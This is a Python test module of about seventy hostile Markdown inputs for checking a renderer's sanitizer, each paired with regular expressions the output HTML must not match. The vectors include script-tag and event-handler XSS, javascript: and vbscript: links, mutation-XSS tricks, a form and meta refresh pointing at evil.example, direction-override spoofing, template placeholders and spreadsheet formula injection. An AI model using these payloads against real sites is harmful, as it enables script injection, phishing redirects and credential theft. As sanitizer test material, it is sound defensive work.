"""Hostile Markdown: of our own, and the list beside the project where it is at hand."""

from __future__ import annotations

import json
from dataclasses import dataclass

from tests.text.corpus import SHARED

SHARED_FILE = SHARED / "hostile_markdown.json"

# A start tag's inside, quoted values skipped, so that what stands in a value is no attribute.
_INSIDE = r"(?i)<[a-z][^>\"]*(?:\"[^\"]*\"[^>\"]*)*\s"
ACTIVE = (
    r"(?i)<(?:script|style|iframe|object|embed|svg|math|form|input|button|meta|link|base|template|"
    r"audio|video|source|noscript|textarea|select|dialog|details|marquee|frameset|portal)\b"
)
HANDLER = _INSIDE + r"on\w+\s*="
STYLE = _INSIDE + r"style\s*="
FRAMEWORK = _INSIDE + r"(?:(?:data-)?hx-|x-|v-|@|:|_\s*=)"
NAMED = _INSIDE + r"(?:id|name|is|slot)\s*="
SCRIPT_ADDRESS = r"(?i)(?:href|src)=\"[^\"]*(?:script|data|blob|vbs|file|ms-\w+):"
ELSEWHERE = r"(?i)(?:href|src)=\"[^\"]*evil"
LOADED = r"(?i)\ssrc=\""
DECEIVING = "[\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]"


@dataclass(frozen=True)
class Vector:
    """Something hostile to put into an article.

    Attributes:
        name: Fit for a file's name.
        markdown: What to put in.
        must_not: Regular expressions that no HTML made of it matches.
        must: Regular expressions that the HTML of the whole as a text of its own matches.
        sink: `html`, or `csv` for what is aimed at spreadsheets.
    """

    name: str
    markdown: str
    must_not: tuple[str, ...]
    must: tuple[str, ...] = ()
    sink: str = "html"

    @property
    def line(self) -> str:
        """The same on one line, for places where no more fits."""
        return " ".join(self.markdown.split("\n"))


OWN = (
    Vector("tag-in-capitals", "<SCRIPT>fire()</SCRIPT>after", (ACTIVE,), ("after",)),
    Vector("script-with-line-ends", "<script\n>\nfire()\n</script\n>\n\nafter", (ACTIVE,), ("after",)),
    Vector("script-in-a-script", "<scr<script>ipt>fire()</scr</script>ipt>", (ACTIVE,)),
    Vector("script-from-entities", "&lt;script&gt;fire()&lt;/script&gt;", (ACTIVE,), ("&lt;script",)),
    Vector("script-in-code", "`<script>fire()</script>`", (ACTIVE,), ("<code>&lt;script",)),
    Vector("script-after-a-fence", "```\n```\n<script>fire()</script>", (ACTIVE,)),
    Vector("fence-language", '```"><script>fire()</script>\na\n```', (ACTIVE,), ("<code>a",)),
    Vector("handler-after-a-slash", "<b/onclick=fire()>x</b>", (HANDLER,), ("x",)),
    Vector("handler-after-a-quote", '<b title="a"onclick="fire()">x</b>', (HANDLER,), ("x",)),
    Vector("handler-in-capitals", "<p ONFOCUS=fire() tabindex=1 autofocus>x</p>", (HANDLER,), ("x",)),
    Vector("handler-over-lines", "<i\nonmouseover\n=\n'fire()'\n>x</i>", (HANDLER,)),
    Vector("handler-on-a-callout", '<div class="callout callout-note" onclick=fire()>x</div>', (HANDLER,)),
    Vector("handler-by-entity", "<b on&#99;lick=fire()>x</b>", (HANDLER,)),
    Vector("attribute-list", "x{: onclick=fire() style=color:red}", (HANDLER, STYLE), ("x",)),
    Vector("picture-handler", "![x](a.png){onerror=fire()}", (HANDLER, LOADED)),
    Vector("description-breaks-out", '![" onerror="fire()](a.png)', (HANDLER, LOADED)),
    Vector("description-as-html", "![&lt;img src=x onerror=fire()&gt;](a.png)", (HANDLER, "<img")),
    Vector("shown-description-as-html", '<img alt="&lt;script&gt;fire()&lt;/script&gt;">', (ACTIVE,)),
    Vector("title-breaks-out", "[x](https://a.example '\"><script>fire()</script>')", (ACTIVE,)),
    Vector("address-breaks-out", '[x](https://a.example/"><script>fire()</script>)', (ACTIVE,)),
    Vector("definition-breaks-out", "[x]\n\n[x]: /a '\" onclick=\"fire()'", (HANDLER,), ("x",)),
    Vector("script-address", "[x](JaVaScRiPt:fire())", (SCRIPT_ADDRESS,), ("x",)),
    Vector("script-address-in-angles", "<javascript:fire()>", (SCRIPT_ADDRESS,)),
    Vector("script-address-by-entity", "[x](java&Tab;script&#58;fire())", (SCRIPT_ADDRESS,)),
    Vector("script-address-in-html", "<a href='\x0bjavascript:fire()'>x</a>", (SCRIPT_ADDRESS,)),
    Vector("script-address-by-reference", "[x][y]\n\n[y]: javascript:fire()", (SCRIPT_ADDRESS,)),
    Vector("script-address-of-a-video", "[!VIDEO javascript:fire()]", (SCRIPT_ADDRESS,)),
    Vector("script-address-of-a-picture", "![x](vbscript:fire())", (SCRIPT_ADDRESS,), ("x",)),
    Vector("data-picture", "![x](data:image/svg+xml;base64,PHN2Zy8+)", (SCRIPT_ADDRESS, LOADED)),
    Vector("picture-of-another-host", "![x](https://evil.example/p.png)", (LOADED,), ("x",)),
    Vector("host-after-a-user", "[x](https://learn.microsoft.com@evil.example/)", (ELSEWHERE,), ("x",)),
    Vector("host-in-percent-signs", "[x](https://learn.microsoft.com%2eevil.example/)", (ELSEWHERE,)),
    Vector("host-after-a-backslash", "<a href='https:\\\\evil.example'>x</a>", (ELSEWHERE,), ("x",)),
    Vector("host-after-a-tab", "<a href='/&#9;/evil.example'>x</a>", (ELSEWHERE,), ("x",)),
    Vector("article-up-and-away", "[x](%2e%2e.md) [y](a/..%2f..%2fadmin%2flogout.md)", ("(?i)%2[ef]",)),
    Vector("article-of-dots", "[x](...md) [y](..md)", (r"\.\.?/",)),
    Vector("device-address", "[x](ms-word:ofe|u|https://evil.example/a.docx)", (SCRIPT_ADDRESS, ELSEWHERE)),
    Vector("form", "<form action=//evil.example><input name=p><button>Go</button></form>", (ACTIVE,), ("Go",)),
    Vector("end-of-the-page", "</div></main></body></html><form>", (ACTIVE, "</(?:main|body|html)")),
    Vector("refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">', (ACTIVE,)),
    Vector("base", "<base href=//evil.example/>", (ACTIVE,)),
    Vector("framework", "<div hx-get=/admin/ hx-trigger=load data-hx-on:load=fire()>x</div>", (FRAMEWORK,)),
    Vector("framework-in-text", "x{: hx-post=/fi/ hx-trigger=load }", (FRAMEWORK,), ("x",)),
    Vector("named-places", '<a id="flow" name="csrfmiddlewaretoken">x</a>', (NAMED,), ("x",)),
    Vector("element-of-ours", "<search-box is=x>y</search-box>", (NAMED, "<search")),
    Vector("style", "<p style=position:fixed;inset:0>x</p><style>*{display:none}</style>", (STYLE, ACTIVE)),
    Vector("forged-callout", '<div class="callout modal" role="alertdialog">x</div>', ("modal|alertd",)),
    Vector("foreign-content", "<svg><style><img title='</style><img src=x onerror=fire()>'>", (ACTIVE, LOADED)),
    Vector("table-rehoming", "<table><svg><desc><td><style><b title='</style><img src=x>'>", (ACTIVE, LOADED)),
    Vector("comment-closed-early", "<!--><img src=x onerror=fire()>-->", (HANDLER, LOADED, "<!--")),
    Vector("comment-without-an-end", "<!-- <img src=x onerror=fire()>", (HANDLER, LOADED, "<!--")),
    Vector("cdata", "<![CDATA[><img src=x onerror=fire()>]]>", (HANDLER, LOADED)),
    Vector("instruction", "<?php ><img src=x onerror=fire()>?>", (HANDLER, LOADED)),
    Vector("quote-without-an-end", "<a href='https://a.example/><b title=\"x'onclick=fire()>", (HANDLER,)),
    Vector("tag-without-an-end", "<a href=https://a.example onclick=fire()", (HANDLER,)),
    Vector("pair-in-a-pair", '<span data-ttu-id="a"><span data-ttu-id="b" onclick=fire()>x</span>', (HANDLER,), ("x",)),
    Vector("pair-of-script", '<span class="sxs-lookup"><script>fire()</script></span>', (ACTIVE,)),
    Vector("direction-by-entity", "Open &#x202e;gpj.exe", (DECEIVING,), ("gpj",)),
    Vector("direction-in-a-title", '[x](https://a.example "&#8238;gpj.exe")', (DECEIVING,), ("x",)),
    Vector("tags-by-entity", "a&#xe0041;b", (DECEIVING,), ("ab",)),
    Vector("nul-by-entity", "a&#0;b&#xd800;c", ("[\x00\ud800-\udfff]",), ("a.b.c",)),
    Vector("template-tag", "{% include 'x' %}{{ request.user }}{# x #}", (ACTIVE,), (r"\{\{ request",)),
    Vector("python-format", "{0.real} %(x)s ${x} %s", (ACTIVE,), (r"\{0\.real\} %\(x\)s",)),
    Vector("placeholder", "\x02raw:0\x03<b>x</b>\x1a", (ACTIVE,), ("x",)),
    Vector("words-in-angles", "Ping <server name> and <me@here>", (ACTIVE,), ("&lt;server name&gt;",)),
    Vector("list-out-of-its-item", "- a\n  <div>\n\n- b\n</li></ul><script>fire()</script>", (ACTIVE,)),
    Vector("formula", "=1+1", (), (), "csv"),
    Vector("formula-after-a-tab", "\t@SUM(A1)", (), (), "csv"),
)  # fmt: skip


def shared_vectors() -> tuple[Vector, ...]:
    """Those beside the project; none where they are not there."""
    if not SHARED_FILE.exists():
        return ()
    entries = json.loads(SHARED_FILE.read_text("utf-8"))
    return tuple(
        Vector(
            entry["id"],
            entry["markdown"],
            tuple(entry["must_not"]) if entry["sink"] == "html" else (),
            tuple(entry.get("must", ())),
            entry["sink"],
        )
        for entry in entries
    )


ALL = (*OWN, *shared_vectors())
